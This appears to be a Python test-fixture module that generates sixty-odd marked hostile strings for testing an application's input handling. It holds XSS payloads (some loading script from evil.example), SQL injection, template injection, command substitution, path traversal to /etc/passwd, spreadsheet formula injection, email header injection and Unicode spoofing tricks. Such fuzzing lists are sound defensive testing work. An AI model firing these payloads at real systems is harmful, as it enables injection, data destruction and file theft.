"""Sixty texts that nobody should be hurt by; each holds the mark and a number of its own."""

from __future__ import annotations

from itertools import count

MARK = "hst"
#: What 7331*3 would be if anybody worked it out.
COMPUTED = "21993"
#: `#` stands for the mark and the number.
_MARKUP = (
    "<script>alert('#')</script>",
    "<ScRiPt src=//evil.example/#></script>",
    "<img src=x onerror=alert('#')>",
    "<svg/onload=alert('#')>",
    "<iframe srcdoc='<b>#'></iframe>",
    "<style>*{display:none}</style>#",
    "<base href=//evil.example/>#",
    "<meta http-equiv=refresh content=0>#",
    "<a href=javascript:alert('#')>#</a>",
    "<form action=//evil.example>#",
    "<!-- # --><!--",
    "<![CDATA[#]]>",
    "</title></textarea></script>#",
    "</bdi></td></table>#",
    "<details open ontoggle=alert('#')>",
    "<math><mi xlink:href=javascript:#>",
    "&lt;b&gt;#&amp;amp;",
    "&#60;script&#62;#",
)
_ATTRIBUTES = (
    "\" autofocus onfocus=\"alert('#')",
    "' onmouseover='alert(\"#\")",
    "` onclick=`#`",
    '"><script>#</script>',
    "x hx-get=/logout hx-trigger=load #",
    '" hx-on:click="alert(\'#\')" x="',
    '" style="position:fixed" #',
    "javascript:alert('#')",
    "data:text/html,<b>#</b>",
)
_LANGUAGES = (
    "{{7331*3}} #",
    "{% include '/etc/passwd' %} #",
    "${7331*3} #",
    "#{7331*3}#",
    "%(name)s %s {name} {0} #",
    "'; DROP TABLE customer; -- #",
    '" OR 1=1 -- #',
    "1) UNION SELECT 1 #",
    "\\'\\\"\\\\ #",
    "%00%0d%0a#",
    "$(reboot) `id` #",
    "*)(uid=*)) #",
    "../../../../etc/passwd #",
    "..\\..\\windows\\#",
    "file:///etc/passwd #",
    "\\u003cscript\\u003e#",
)
_FORMULAS = (
    "=HYPERLINK(1,#)",
    "+1+cmd|' /C calc'!#",
    "-2+3+#",
    "@SUM(A1)#",
    "＝1+1 #",
    "x;=1+1 #",
    "\t=1+1 #",
    "\r=1+1 #",
    "'=1+1 #",
)
_LETTERS = (
    "#\r\nBcc: eve@evil.example",
    "# eve@evil.example, mallory@evil.example",
    "# <eve@evil.example>",
    "\u202e# gpj.exe\u202c",
    "\u2066#\u2067abc\u2069",
    "\u200bz\u200be\u2060r\ufeffo #",
    "עברית # العربية",
    "👩\u200d👩\u200d👧\u200d👦 #",
    "Z\u0301\u0302\u0303\u0304\u0489a\u0300\u0301l\u0489go #",
    "A\u00a0b\u2007c\u202f#\u2028d\u2029e",
    "#" + "W" * 50,
    "NULL undefined NaN #",
    "\x1b[31m#\x07\x08\x7f",
)
#: What only the books can hold: no form and no row takes it as it is.
_WILD = (
    "\0<b>#\0</b>",
    "\ud800<script>#</script>\udfff",
    "#" + "\U0001f469" * 40_000,
    "<b>#" + "w" * 1_000_000,
    "\ufffe\uffff#\U0010ffff",
    "#" + "\u0489" * 5_000,
)
TEXTS = (*_MARKUP, *_ATTRIBUTES, *_LANGUAGES, *_FORMULAS, *_LETTERS)
WILD = (*TEXTS, *_WILD)


class HostileWords:
    """One hostile text after the other; `wild` those that only the books can hold as well."""

    def __init__(self, _word: str) -> None:
        self._tame, self._wild, self._numbers = count(), count(), count()

    def __call__(self) -> str:
        return self._marked(TEXTS[next(self._tame) % len(TEXTS)])

    def wild(self) -> str:
        return self._marked(WILD[next(self._wild) % len(WILD)])

    def _marked(self, text: str) -> str:
        return text.replace("#", f"{MARK}{next(self._numbers)}")
